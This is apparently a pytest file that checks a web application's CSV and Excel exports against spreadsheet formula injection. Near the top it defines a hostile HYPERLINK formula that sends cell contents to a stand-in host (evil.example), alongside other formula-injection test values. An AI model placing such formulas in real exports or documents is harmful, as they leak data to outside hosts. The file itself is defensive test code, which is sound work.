"""No text in an export is run as a formula when the file is opened in a spreadsheet
(issue #20, finding 6): one helper writes every CSV, and Excel files keep text as text."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from engine.stats import KpiTable
from engine.stats.labels import Text
from engine.stats.tables import COUNT, LABEL, Column
from tests.scenario.test_complaint import INTAKE
from web.spreadsheet import safe_cell
from web.stats.exports import csv_bytes, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'


@pytest.mark.parametrize(("value", "written"), [
    (LINK, "'" + LINK), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-", "'-"),
    ("-3", "-3"), (-3, "-3"), ("-12.5%", "-12.5%"), (7, "7"), (None, ""), ("3栋12楼1203", "3栋12楼1203"),
    ("a=b", "a=b"), ("{\"unit\": \"=1\"}", "{\"unit\": \"=1\"}"),
])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_every_csv_is_written_through_the_one_helper():
    writers = [path.relative_to(ROOT).as_posix()
               for folder in ("engine", "web", "cli") for path in sorted((ROOT / folder).rglob("*.py"))
               if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert writers == ["web/spreadsheet.py"]


def test_the_audit_export_keeps_a_typed_formula_as_text(web, start_case):
    case = start_case("complaint", {"complainant": "林先生"})
    case.complete("intake", "reception1", **dict(INTAKE, unit=LINK))
    web.login("auditor1")
    body = web.get_text(f"/audit/export.csv?reference={case.reference}").lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and {row["单元"] for row in rows} == {"'" + LINK}  # headers in Chinese
    typed = json.dumps(LINK, ensure_ascii=False)
    assert any(typed in row["数据"] for row in rows)  # the submitted data, as JSON, shows what was typed
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))]


def hostile_table() -> KpiTable:
    """A table whose label a designer chose: a process named like a formula."""
    columns = [Column("label", "流程", "Procedure", LABEL), Column("cases", "案件", "Cases", COUNT)]
    return KpiTable("by_process", "按流程", "By procedure", columns,
                    [{"label": Text(LINK, LINK), "cases": 2}, {"label": Text("@cmd", "@cmd"), "cases": -1}])


def test_the_statistics_csv_keeps_a_formula_label_as_text(app):
    with app.test_request_context():
        rows = list(csv.reader(io.StringIO(csv_bytes([hostile_table()]).decode("utf-8").lstrip("\ufeff"))))
    assert rows == [["流程", "案件"], ["'" + LINK, "2"], ["'@cmd", "-1"]]


def test_the_statistics_excel_file_keeps_a_formula_label_as_text(app):
    with app.test_request_context():
        sheet = load_workbook(io.BytesIO(xlsx_bytes([hostile_table()])))["by_process"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (LINK, "s")
    assert (sheet["B2"].value, sheet["B3"].value) == (2, -1)
